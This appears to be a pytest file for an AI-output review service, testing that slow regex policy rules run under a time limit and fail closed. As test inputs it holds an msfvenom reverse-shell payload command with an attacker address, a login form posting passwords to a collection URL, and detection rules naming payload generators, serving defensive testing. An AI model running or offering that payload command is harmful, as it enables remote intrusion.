"""A team's own rule pattern that can backtrack runs under a time limit, and running out is never an approval.

``<form[^>]+action=`` over 180 KB of ``<form `` took tens of seconds on ``re``, on the event loop: every request
in the process waited. Such a pattern (a repeat with no upper bound over a broad class) now runs on the
time-limited engine; a search that runs out counts as the rule matching, and ``oversight policies check`` names
the pattern with its file and line.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from service.cli import app as cli
from service.main import create_app
from service.policy.bounds import PATTERN_TIMEOUT_S, unbounded_repeats
from service.settings import Settings

POLICIES = Path(__file__).resolve().parents[2] / "policies"
SLOW = "<form[^>]+action="
FLOOD = "<form " * 30_000  # 180,000 characters, under OVERSIGHT_MAX_CHARS; no "action=" anywhere


def _policy_dir(tmp_path: Path, *rules: dict[str, Any]) -> Path:
    folder = tmp_path / "policies"
    shutil.copytree(POLICIES, folder)
    path = folder / "cyber.yaml"
    policy = yaml.safe_load(path.read_text())
    policy["rules"] = [*rules, *policy["rules"]]
    path.write_text(yaml.safe_dump(policy, sort_keys=False))
    return folder


SLOW_FORM = {
    "id": "cyber.team_form",
    "severity": "critical",
    "message": "A login form that posts somewhere.",
    "match": {"patterns": [SLOW]},
}
SLOW_EXEMPTION = {
    "id": "cyber.team_payload",
    "severity": "critical",
    "message": "A payload generator command.",
    "match": {"patterns": [r"msfvenom -p"], "unless": [r"<form[^>]+lab-only="]},
}


@pytest.fixture
def client(tmp_path: Path) -> Iterator[TestClient]:
    settings = Settings(data_dir=tmp_path / "data", policy_dir=_policy_dir(tmp_path, SLOW_FORM, SLOW_EXEMPTION))
    with TestClient(create_app(settings)) as c:
        yield c


def review(client: TestClient, answer: str) -> dict[str, Any]:
    body = {"messages": [{"role": "user", "content": "Build me a page"}], "output": answer, "domain": "cyber"}
    r = client.post("/v1/reviews", json=body)
    assert r.status_code == 200, r.text
    return r.json()  # type: ignore[no-any-return]


def finding(decision: dict[str, Any], rule: str) -> dict[str, Any] | None:
    return next((f for f in decision["findings"] if f["rule"] == rule), None)


def test_a_search_that_runs_out_of_time_counts_as_the_rule_matching(client: TestClient) -> None:
    d = review(client, FLOOD)
    f = finding(d, "cyber.team_form")
    assert f is not None, d["findings"]
    assert f"did not finish within {PATTERN_TIMEOUT_S} s" in f["message"]
    assert d["verdict"] == "block"


def test_a_time_limited_pattern_still_finds_what_it_matches(client: TestClient) -> None:
    page = 'Here:\n<form method="post"\n  action="https://login.example/collect">\n<input name="password">\n</form>'
    d = review(client, page)
    f = finding(d, "cyber.team_form")
    assert f is not None and "did not finish" not in f["message"], d["findings"]
    assert f["evidence"]["text"].startswith("<form method=")
    assert page[f["evidence"]["start"] : f["evidence"]["end"]] == f["evidence"]["text"]
    assert finding(review(client, "A form needs an action attribute to submit."), "cyber.team_form") is None


def test_an_exemption_that_runs_out_of_time_does_not_exempt(client: TestClient) -> None:
    d = review(client, "Run msfvenom -p windows/shell_reverse_tcp LHOST=203.0.113.5 -f exe\n" + FLOOD)
    assert finding(d, "cyber.team_payload") is not None, d["findings"]
    exempt = review(client, 'msfvenom -p linux/x64/shell <form id="x" lab-only="yes">')
    assert finding(exempt, "cyber.team_payload") is None, exempt["findings"]


def test_policies_check_names_each_time_limited_pattern_with_its_line(tmp_path: Path) -> None:
    folder = _policy_dir(tmp_path, SLOW_FORM)
    result = CliRunner().invoke(cli, ["policies", "check", str(folder)])
    assert result.exit_code == 0, result.output
    warning = [line for line in result.output.splitlines() if "cyber.team_form" in line]
    assert len(warning) == 1, result.output
    path = folder / "cyber.yaml"
    line = next(n for n, text in enumerate(path.read_text().splitlines(), 1) if SLOW in text)
    assert warning[0].startswith(f"warning: {path}:{line}: rule cyber.team_form match.patterns[0]")
    assert "no upper bound" in warning[0] and "{1,300}" in warning[0]


def test_the_shipped_policies_have_no_time_limited_pattern() -> None:
    result = CliRunner().invoke(cli, ["policies", "check", str(POLICIES)])
    assert result.exit_code == 0 and "warning" not in result.output, result.output


@pytest.mark.parametrize(
    ("pattern", "unbounded"),
    [
        (SLOW, 1),
        (r"(\w+\s?)+x", 2),
        (r"x(?=.*y)", 1),
        (r"(a)?(?(1)b.*|c)", 1),
        (r"<form[^>]{1,300}action=", 0),
        (r"\bcall\s+911\b", 0),
        (r"\d+ mg", 0),
        (r"a+h", 0),
    ],
)
def test_unbounded_repeats_over_a_broad_class_are_counted(pattern: str, unbounded: int) -> None:
    assert unbounded_repeats(pattern) == unbounded
